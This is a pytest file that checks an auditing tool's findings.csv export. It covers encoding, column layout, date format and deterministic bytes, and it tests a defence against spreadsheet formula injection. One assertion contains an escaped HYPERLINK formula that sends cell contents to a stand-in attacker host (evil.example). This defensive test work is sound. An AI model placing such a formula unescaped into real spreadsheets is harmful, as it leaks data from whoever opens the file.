"""findings.csv: every finding once, in a form that spreadsheets open and never run."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from auditor.report.columns import FINDING_COLUMNS
from auditor.report.labels import LABELS
from auditor.report.write import write_reports
from tests.report.results import HOSTILE, sample_result


def rows(folder: Path, lang: str = "zh") -> list[list[str]]:
    (path,) = write_reports(sample_result(), folder, ["csv"], lang=lang)
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_the_file_starts_with_a_byte_order_mark_and_ends_lines_as_excel_does(tmp_path: Path) -> None:
    (path,) = write_reports(sample_result(), tmp_path, ["csv"])
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.endswith(b"\r\n")


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_finding_stands_in_one_row_under_the_columns_of_the_workbook(lang: str, tmp_path: Path) -> None:
    head, *body = rows(tmp_path, lang)
    assert head == [LABELS[column.label].in_language(lang) for column in FINDING_COLUMNS]
    assert len(body) == len(sample_result().findings)
    assert {len(row) for row in body} == {len(head)}
    assert [row[-1] for row in body] == [one.fingerprint for one in sample_result().findings]


def test_no_cell_can_start_a_formula(tmp_path: Path) -> None:
    cells = [cell for row in rows(tmp_path) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in cells


def test_no_cell_hides_anything_or_outgrows_a_cell(tmp_path: Path) -> None:
    cells = [cell for row in rows(tmp_path) for cell in row]
    assert max(map(len, cells)) <= 32_767
    assert not [cell for cell in cells if any(mark in cell for mark in "\x00\x1b\u202e\u200b\u2028")]
    assert len(HOSTILE) > 20


def test_dates_stand_in_iso_form(tmp_path: Path) -> None:
    head, *body = rows(tmp_path)
    due = {row[head.index("应完成日期")] for row in body}
    assert due == {"", "2026-11-23", "2026-12-07", "2027-02-09"}


def test_the_same_result_gives_the_same_bytes(tmp_path: Path) -> None:
    assert rows(tmp_path / "1") == rows(tmp_path / "2")
